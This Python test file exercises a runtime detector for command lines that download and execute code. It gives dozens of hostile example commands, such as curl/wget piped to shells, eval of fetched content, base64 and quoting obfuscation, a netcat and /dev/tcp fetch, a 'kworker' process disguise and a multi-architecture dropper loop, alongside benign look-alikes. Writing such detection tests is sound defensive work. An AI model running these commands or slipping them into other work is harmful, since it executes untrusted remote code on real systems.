"""Command lines that download and run, and those that only look like it."""

import base64
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from detectors.examples import execution, fired
from detectors.runtime.download_acts import Act, acts
from detectors.runtime.download_and_run import download_and_run
from events import Process, RuntimeEvent

SHOP = ["shop/0123456789ab"]
CODED = base64.b64encode(b"curl -s http://h/x | bash").decode()


def line(text: str, shell: str = "/bin/sh", **process: Any) -> RuntimeEvent:
    return execution(shell, argv=("sh", "-c", text), arguments=f'-c "{text}"', **{"cwd": "/srv"} | process)


@pytest.mark.parametrize(
    "text",
    [
        "curl -fsSL https://h/x.sh | sh",
        "wget -qO-  http://h/x|sh",
        "wget${IFS}-qO-${IFS}http://h/x|sh",
        "curl -s http://h/x | sudo -E bash -",
        "curl -s http://h/x | bash -s -- --quiet",
        "curl -s http://h/x | env A=b bash",
        "curl -s http://h/x | python3 -",
        "curl -s http://h/x | python3",
        "curl -s http://h/x | perl",
        "curl -s http://h/x | node",
        "curl -s http://h/x | ruby",
        "curl -s http://h/x | php",
        "curl -s http://h/x | base64 -d | gunzip | zsh",
        "(curl -s http://h/x || wget -qO- http://h/x) | bash",
        "curl http://h/x | tee /tmp/log | sh",
        "busybox wget -q -O - http://h/x | busybox sh",
        "/usr/bin/wget2 -qO- http://h/x | dash",
        "http -b http://h/x | ash",
        "lwp-request http://h/x | sh",
        "nc 192.0.2.7 4444 | sh",
        "cat </dev/tcp/192.0.2.7/80 | bash",
        "aws s3 cp s3://b/x.sh - | bash",
        'sh -c "$(curl -fsSL http://h/x)"',
        'bash -c "`wget -qO- http://h/x`"',
        "bash <(curl -s http://h/x)",
        "bash -c 'bash <(curl -s http://h/x)'",
        ". <(curl -s http://h/x)",
        "source <(curl -s http://h/x)",
        "source /dev/stdin <<< \"$(curl -s http://h/x)\"",
        'eval "$(curl -s http://h/x)"',
        "eval $(wget -qO- http://h/x)",
        "$(curl -s http://h/x)",
        'bash <<< "$(curl -s http://h/x)"',
        "bash < <(curl -s http://h/x)",
        'python3 -c "$(curl -s http://h/x)"',
        'a=$(curl -s http://h/x); eval "$a"',
        'a=$(curl -s http://h/x); echo "$a" | sh',
        f"echo {CODED} | base64 -d | sh",
        'c"u"rl -s http://h/x | b\\ash',
        "/tmp/.c -s http://h/x | sh",
        "/opt/fetcher http://h/x | sh",
        "curl -s http://h/x | while read l; do eval \"$l\"; done",
        'curl -o "$(pwd)/x" http://h/x; ./x',
        "curl -s http://h/x | sh -c 'cat >/opt/y'; sh /opt/y",
        "curl -s http://h/x | sudo tee /usr/local/bin/x >/dev/null; x",
        "f() { curl -s http://h/x; }; f | timeout 9 sh",
        "curl -o x http://h/x; exec -a kworker ./x",
        "curl -o x http://h/x; /lib64/ld-linux-x86-64.so.2 ./x",
        "wget -q http://h/x && chmod +x x && ./x",
        "curl -o f http://h/x; sh f",
        "curl -sSLo/tmp/x http://h/a && /tmp/x",
        "curl http://h/x>f&&bash f",
        "cd /tmp; wget http://h/x; chmod 777 x; ./x",
        "curl http://h/x -o /dev/shm/.x; nohup /dev/shm/.x &",
        "curl -s http://h/x > f; sh < f",
        "curl -s http://h/x > f; cat f | sh",
        "curl -s http://h/x > f; . ./f",
        "curl -s http://h/x | base64 -d > f; perl f",
        "curl -s http://h/x | tee f >/dev/null; bash f",
        "wget -P /opt http://h/x.py; python3.11 /opt/x.py",
        "curl -O --output-dir /opt http://h/x; /opt/x",
        "curl --output /opt/x --url http://h/a; /opt/x -q",
        "wget -q http://h/x.gz; gunzip x.gz; ./x",
        "wget -q http://h/tool.tgz; tar xzf tool.tgz; ./tool-1.2/run",
        "wget -q http://h/x.tgz && tar -xzf x.tgz -C /opt/y && /opt/y/run",
        "curl -s http://h/a.tgz | tar xz -C /opt/y; /opt/y/run",
        "wget http://h/x; mv x y; chmod +x y; ./y",
        "wget http://h/x; install -m755 x /usr/local/bin; x --flag",
        "curl -o /usr/local/bin/x http://h/x; chmod +x /usr/local/bin/x; x",
        "T=$(mktemp); curl -s http://h/x > $T; sh $T",
        "if curl -o f http://h/x; then sh f; fi",
        "for a in mips arm; do wget -q http://h/n.$a -O .n; chmod 777 .n; ./.n; done",
        "busybox tftp -g -l m -r m 192.0.2.7; ./m",
        "ftpget -u a 192.0.2.7 m m; sh m",
        "scp u@192.0.2.7:/x /opt/x; /opt/x",
        "aria2c -d /opt -o x http://h/a; /opt/x",
        "axel -o x http://h/a; ./x",
        "lwp-download http://h/a x; perl x",
        "curl -o a.jar http://h/a.jar; java -Xmx1g -jar a.jar",
        "cp /usr/bin/curl /tmp/c; /tmp/c -o x http://h/x; ./x",
        "curl http://h/x | dd of=f; sh f",
    ],
)  # fmt: skip
def test_one_command_line_that_downloads_and_runs(text: str) -> None:
    assert fired(download_and_run, line(text)) == SHOP


@pytest.mark.parametrize(
    ("binary", "argument"),
    [
        ("python3", "import urllib.request; exec(urllib.request.urlopen('http://h/x').read())"),
        ("python3", "import requests; c=requests.get('http://h/x').text; exec(c)"),
        ("python3", "import os; os.system('curl -s http://h/x | sh') if 0 else exec(__import__('requests').get('http://h'))"),
        ("perl", "use LWP::Simple; eval get('http://h/x')"),
        ("perl", "use LWP::Simple; getstore('http://h/x', '/tmp/x'); system('sh /tmp/x')"),
        ("php", "eval(file_get_contents('http://h/x'));"),
        ("php", "include 'http://h/x';"),
        ("ruby", "require 'open-uri'; eval(URI.open('http://h/x').read)"),
    ],
)  # fmt: skip
def test_one_liners_that_download_and_run(binary: str, argument: str) -> None:
    option = {"python3": "-c", "php": "-r"}.get(binary, "-e")
    assert fired(download_and_run, execution(f"/usr/bin/{binary}", argv=(binary, option, argument))) == SHOP


@pytest.mark.parametrize(
    "text",
    [
        "curl -s http://h/x | python3 -m json.tool",
        "curl -s http://h/x | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
        "curl -s http://h/x | perl -ne 'print if /a/'",
        "curl -s http://h/x | ruby -ne 'puts $_'",
        "curl -s http://h/x | node -e 'x()'",
        "curl -s http://h/x | jq -r .a",
        "curl -s http://h/x | tar xz -C /opt",
        "curl -s http://h/x | grep -q ok && sh /app/start.sh",
        "curl -s http://h/x | while read l; do echo $l; done",
        "until wget -q -O /dev/null http://h/x; do sleep 1; done; python3 app.py",
        "curl -X POST http://h/x -d @f; sh f",
        "curl -T x http://h/x; ./x",
        "TOKEN=$(curl -s http://h/t); export TOKEN; exec node server.js",
        "curl -s http://h/x | bash /app/read.sh",
        "curl -fsS http://localhost:8080/healthz || exit 1",
        "wget -q --spider http://h/x && sh x",
        "curl -sI http://h/x | sh",
        "curl -o /dev/null http://h/x; sh x",
        "curl -o report.csv http://h/x; gzip report.csv",
        "tar cf - /srv/pages | kubectl exec -i web-0 -- tar xf - -C /",
        "X=$(curl -s http://h/version); echo $X; ./start --version $X",
        "bash start.sh $(curl -s http://h/ip)",
        "echo 'curl http://h/x | sh' >> NOTES",
        "grep 'curl http://h/x | sh' NOTES",
        "sh -c \"echo $(curl -s http://h/x)\"",
        "./x; wget http://h/x",
        "curl -o /opt/x http://h/x; /usr/local/lib/x",
        "git clone https://h/x; cd x; ./run.sh",
        "pip install -r https://h/req.txt; python3 app.py",
        "helm template https://h/c.tgz | sh -n /dev/null",
        "nc -z h 80 | sh",
        "cat /app/x | sh",
        "wget http://h/x; mv x y; ./x",
    ],
)  # fmt: skip
def test_command_lines_that_only_look_like_it(text: str) -> None:
    assert fired(download_and_run, line(text)) == []


WORDS = [
    "curl",
    "wget",
    "-o",
    "x",
    ";",
    "|",
    "sh",
    "&&",
    "./x",
    ">",
    "<",
    "$(",
    ")",
    "`",
    "cd",
    "/tmp",
    "tar",
    "xzf",
    "mv",
]
WORDS += [
    "<(",
    "python3",
    "-c",
    "exec(",
    "urlopen(",
    "http://h/x",
    "'",
    '"',
    "x=",
    "d=urlopen(",
    ";d=",
    "$x",
    "{a,b}",
    "||",
]


@settings(max_examples=150, deadline=2000)
@given(
    st.text(max_size=200),
    st.sampled_from(["/bin/sh", "/usr/bin/curl", "/usr/bin/tar", "/x", "python3", "", "/usr/bin/cp"]),
)
def test_any_text_is_taken(text: str, binary: str) -> None:
    for arguments in (text, f'-c "{text}"', f"-o {text} http://h/x {text}"):
        found = acts(Process(binary=binary, arguments=arguments, cwd=text[:20]))
        assert all(type(act) is Act for act in found)
        assert len(found) <= 32
        download_and_run(execution(binary, arguments))


@settings(max_examples=100, deadline=4000)
@given(st.lists(st.sampled_from(WORDS), max_size=400))
def test_any_mixture_of_its_words_is_read_in_bounded_time(words: list[str]) -> None:
    acts(Process(binary="/bin/sh", argv=("sh", "-c", " ".join(words))))
